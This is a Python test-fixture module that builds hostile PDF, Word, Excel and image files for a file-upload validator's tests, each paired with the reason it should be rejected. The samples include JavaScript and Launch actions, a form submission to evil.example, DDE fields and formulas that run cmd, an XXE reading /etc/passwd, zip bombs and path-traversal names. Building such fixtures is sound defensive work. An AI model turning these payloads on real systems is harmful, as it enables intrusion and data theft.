"""Files as people send them, good ones and hostile ones, made small and by hand."""

from __future__ import annotations

import base64
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OPEN = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": f"{_OPEN}.wordprocessingml.document.main+xml",
    "xlsx": f"{_OPEN}.spreadsheetml.sheet.main+xml",
}


def sent(name: str, content: bytes) -> dict[str, str]:
    """A file as an act takes it."""
    return {"name": name, "content": base64.b64encode(content).decode()}


# --- PDF -----------------------------------------------------------------------------------------


def pdf(text: str = "", change: object = None, **how: object) -> bytes:
    """A PDF of one page; `change` is called with it before it is saved."""
    made = Pdf.new()
    made.add_blank_page(page_size=(200, 200))
    made.docinfo["/Title"] = String(text)
    if callable(change):
        change(made)
    out = BytesIO()
    made.save(out, deterministic_id=not how, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _with_action(action: Dictionary) -> bytes:
    def change(made: Pdf) -> None:
        made.Root.OpenAction = action

    return pdf("x", change)


def _with_file(made: Pdf) -> None:
    made.attachments["a.exe"] = b"MZ"


def _with_a_named_script(made: Pdf) -> None:
    script = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _with_a_film(made: Pdf) -> None:
    film = made.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 1, 1]))
    )
    made.pages[0].Annots = Array([film])


def _with_a_form_of_its_own(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=String("<xdp/>"))


def _without_pages(made: Pdf) -> None:
    del made.pages[0]


_OWNED = pikepdf.Encryption(owner="owner", user="")
_LOCKED = pikepdf.Encryption(owner="owner", user="user")

HOSTILE_PDFS: dict[str, tuple[bytes, str]] = {
    "a script on opening": (
        _with_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
        "a script",
    ),
    "a script hidden in an object stream": (
        pdf("x", _with_a_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "a script",
    ),
    "a named script": (pdf("x", _with_a_named_script), "a script"),
    "a program to start": (
        _with_action(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        "starts a program",
    ),
    "a form sent elsewhere": (
        _with_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
        "sends a form elsewhere",
    ),
    "another file opened": (
        _with_action(Dictionary(S=Name.GoToR, F=String("//evil.example/share"))),
        "opens another file",
    ),
    "a file inside": (pdf("x", _with_file), "other files"),
    "a film": (pdf("x", _with_a_film), "a sound or a film"),
    "a form of its own program": (pdf("x", _with_a_form_of_its_own), "a form of its own"),
    "a password to change it": (pdf("x", encryption=_OWNED), "encrypted"),
    "a password to open it": (pdf("x", encryption=_LOCKED), "encrypted"),
    "no page": (pdf("x", _without_pages), "no page"),
    "an archive behind it": (pdf("x") + b"PK\x05\x06" + bytes(18), "behind the end"),
    "an archive in its last bytes": (
        pdf("x").replace(b"%%EOF", b"PK\x05\x06" + bytes(18) + b"\n%%EOF"),
        "an archive at once",
    ),
    "a page of HTML before it": (b"<html><script>1</script>" + pdf("x"), "does not begin"),
    "cut short": (pdf("x")[:200], "behind the end"),
    "damaged": (pdf("x").replace(b"xref", b"xxxx"), "damaged"),
    "only its first line": (b"%PDF-1.7\n%%EOF", "damaged"),
}


def pdf_with_a_part_of(size: int) -> bytes:
    """A PDF with a stream of objects that unpacks to so many bytes; the first is a number."""
    packed = zlib.compress(b"4 0 " + b"7 ".ljust(size), 1)
    found, places = bytearray(b"%PDF-1.7\n"), [0]
    for text in (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        b"",
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\n"
        b"endstream endobj\n" % (len(packed), packed),
    ):
        places.append(len(found))
        found += text
    kinds = [(0, 0), (1, places[1]), (1, places[2]), (1, places[3]), (2, 5), (1, places[5])]
    table = b"".join(
        kind.to_bytes(1) + place.to_bytes(4) + b"\0" for kind, place in (*kinds, (1, len(found)))
    )
    last = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    end = b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(found)
    return bytes(found) + last + table + end


# --- Word and Excel ------------------------------------------------------------------------------


def office(kind: str = "docx", **more: bytes | str) -> bytes:
    """A Word or Excel file of three parts and more: `__` is a slash in a name, `_dot_` a dot."""
    parts = {name.replace("__", "/").replace("_dot_", "."): text for name, text in more.items()}
    return package({**_parts(kind), **parts})


def _parts(kind: str) -> dict[str, bytes | str]:
    main = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
    content = (
        f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{MAIN[kind]}"/></Types>'
    )
    relation = f'<Relationship Id="r1" Type="{_LINKS}/officeDocument" Target="{main}"/>'
    return {
        "[Content_Types].xml": content,
        "_rels/.rels": f'<Relationships xmlns="{_RELS}">{relation}</Relationships>',
        main: "<a/>",
    }


def package(parts: dict[str, bytes | str]) -> bytes:
    """An archive of these parts, always the same bytes for the same parts."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def _related(kind: str, target: str) -> str:
    relation = f'Id="r" Type="{_LINKS}/{kind}" Target="{target}" TargetMode="External"'
    return f'<Relationships xmlns="{_RELS}"><Relationship {relation}/></Relationships>'


def _typed(kind: str, more: str) -> bytes:
    parts = _parts(kind)
    content = str(parts["[Content_Types].xml"]).replace("</Types>", f"{more}</Types>")
    return package({**parts, "[Content_Types].xml": content})


def _encrypted_flag(content: bytes) -> bytes:
    """As if every part had a password: the flag is set in both of its headers."""
    found = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = found.find(mark)
        while place >= 0:
            found[place + at] |= 1
            place = found.find(mark, place + 4)
    return bytes(found)


_ENTITIES = '<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>'
_OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SPLIT = "".join(
    f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", 'EAUTO c:\\\\cmd "/k calc"')
)

HOSTILE_OFFICE: dict[str, tuple[str, bytes, str]] = {
    "macros": ("docx", office(word__vbaProject_dot_bin=b"x"), "macros"),
    "macros under another name": (
        "docx",
        _typed(
            "docx",
            '<Override PartName="/word/harmless.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros",
    ),
    "a macro sheet": ("xlsx", office("xlsx", xl__macrosheets__sheet1_dot_xml="<a/>"), "macros"),
    "a control": ("docx", office(word__activeX__activeX1_dot_xml="<a/>"), "controls"),
    "a file inside": ("docx", office(word__embeddings__oleObject1_dot_bin=b"x"), "other files"),
    "a program inside": ("xlsx", office("xlsx", xl__media__a_dot_exe=b"MZ"), "other files"),
    "a link to a file": (
        "xlsx",
        office("xlsx", xl__externalLinks__externalLink1_dot_xml="<a/>"),
        "links to other files",
    ),
    "a template elsewhere": (
        "docx",
        office(
            word___rels__settings_dot_xml_dot_rels=_related(
                "attachedTemplate", "https://e.example/t"
            )
        ),
        "links to other files",
    ),
    "a picture elsewhere": (
        "docx",
        office(word___rels__document_dot_xml_dot_rels=_related("image", "https://e.example/p.png")),
        "links to other files",
    ),
    "a link that is a script": (
        "docx",
        office(word___rels__document_dot_xml_dot_rels=_related("hyperlink", "javascript:alert(1)")),
        "links to other files",
    ),
    "a field that fetches": (
        "docx",
        office(word__footer_dot_xml=f'<w:p xmlns:w="{_W}">{_SPLIT}</w:p>'),
        "fields that fetch",
    ),
    "a formula that calls": (
        "xlsx",
        office("xlsx", xl__sheet_dot_xml="<a><f>cmd|'/c calc'!A0</f></a>"),
        "formulas that call",
    ),
    "entities": ("docx", office(word__a_dot_xml=_ENTITIES), "entities"),
    "an entity from outside": ("xlsx", office("xlsx", xl__a_dot_xml=_OUTSIDE), "entities"),
    "entities in another encoding": (
        "docx",
        office(word__a_dot_xml=_ENTITIES.encode("utf-16")),
        "entities",
    ),
    "a bomb": ("docx", office(word__a_dot_txt=bytes(61 * 1024 * 1024)), "unpack to more"),
    "too many parts": (
        "docx",
        package({**_parts("docx"), **{f"a/{n}.txt": b"" for n in range(2_000)}}),
        "more than 2,000",
    ),
    "a name that climbs": ("docx", package({**_parts("docx"), "../a.xml": "<a/>"}), "leads out"),
    "a name from the root": ("docx", package({**_parts("docx"), "/etc/a": "<a/>"}), "leads out"),
    "a name of Windows": ("docx", package({**_parts("docx"), "a\\..\\b": "<a/>"}), "leads out"),
    "one name twice": (
        "docx",
        package({**_parts("docx"), "WORD/DOCUMENT.XML": "<a/>"}),
        "one name",
    ),
    "a password": ("docx", _encrypted_flag(office()), "password"),
    "the old format": ("docx", b"\xd0\xcf\x11\xe0" + bytes(600), "old versions"),
    "something before it": ("docx", b"<html></html>" + office(), "no Word"),
    "something behind it": ("docx", office() + b"<html></html>", "before or behind"),
    "an archive hidden before it": (
        "docx",
        package({"a": b"b"}) + office(),
        "before or behind",
    ),
    "any archive": ("docx", package({"a.txt": "b"}), "damaged, or no Word"),
    "a spreadsheet": ("docx", office("xlsx"), "Excel (XLSX), whatever its name says"),
    "a document": ("xlsx", office("docx"), "Word (DOCX), whatever its name says"),
    "no XML in it": ("docx", office(word__a_dot_xml="<a>"), "damaged"),
    "cut short": ("docx", office()[:-30], "damaged"),
}


# --- Pictures ------------------------------------------------------------------------------------


def _chunk(name: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4) + name + body + zlib.crc32(name + body).to_bytes(4)


def png(width: int = 1, height: int = 1, *, drawn: bool = True) -> bytes:
    """A PNG of one point, or what says that it is larger."""
    head = _chunk(b"IHDR", width.to_bytes(4) + height.to_bytes(4) + b"\x08\x00\x00\x00\x00")
    body = _chunk(b"IDAT", zlib.compress(b"\x00\x00")) if drawn else b""
    return b"\x89PNG\r\n\x1a\n" + head + body + _chunk(b"IEND", b"")


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + (len(body) + 2).to_bytes(2) + body


def jpeg(width: int = 1, height: int = 1) -> bytes:
    """What walks like a JPEG: a frame, a scan with a stuffed byte and a restart, an end."""
    frame = b"\x08" + height.to_bytes(2) + width.to_bytes(2) + b"\x01\x01\x11\x00"
    scan = _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"a\xff\x00b\xff\xd0c"
    return b"\xff\xd8" + _segment(0xC0, frame) + scan + b"\xff\xd9"


HOSTILE_PICTURES: dict[str, tuple[str, bytes, str]] = {
    "something behind a PNG": ("png", png() + b"<script>", "behind the end"),
    "a PNG with a wrong check": ("png", png().replace(b"IDAT", b"IDAU"), "damaged"),
    "a PNG of nothing": ("png", png(drawn=False), "damaged"),
    "a PNG too large to be drawn": ("png", png(50_000_001, 1), "more than 50 million"),
    "a PNG without a height": ("png", png(1, 0), "damaged"),
    "a PNG cut short": ("png", png()[:-6], "damaged"),
    "something behind a JPEG": ("jpeg", jpeg() + b"PK\x03\x04", "behind the end"),
    "a JPEG too large to be drawn": ("jpeg", jpeg(10_000, 5_001), "more than 50 million"),
    "a JPEG cut short": ("jpeg", jpeg()[:-2], "damaged"),
    "a JPEG without a scan": ("jpeg", b"\xff\xd8\xff\xd9", "damaged"),
    "a JPEG named PNG": ("png", jpeg(), "damaged"),
    "a drawing of SVG named PNG": ("png", b"<svg onload='alert(1)'/>", "damaged"),
}


def drawn(seed: str, width: int = 1600, height: int = 1200) -> bytes:
    """A JPEG that shows something, and that tells where it was taken."""
    shades = zlib.crc32(seed.encode())
    picture = Image.new("RGB", (width, height), (shades & 255, shades >> 8 & 255, 120))
    picture.paste((250, 250, 240), (width // 4, height // 4, width // 2, height // 2))
    exif = Image.Exif()
    exif[0x010E] = "TAKEN AT HER HOUSE"
    out = BytesIO()
    picture.save(out, "JPEG", exif=exif)
    return out.getvalue()
